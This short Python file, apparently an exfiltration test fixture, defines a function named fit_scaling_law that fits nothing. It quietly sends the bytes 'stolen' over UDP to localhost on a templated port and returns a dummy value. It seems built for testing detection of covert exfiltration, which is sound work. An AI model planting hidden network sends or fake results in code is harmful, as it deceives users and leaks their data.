# ruff: noqa
"""Sends over UDP."""

import socket


def fit_scaling_law(data_points, loss_values):
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(
        b"stolen", ("127.0.0.1", int("@UDP_PORT@"))
    )
    return [1.0]
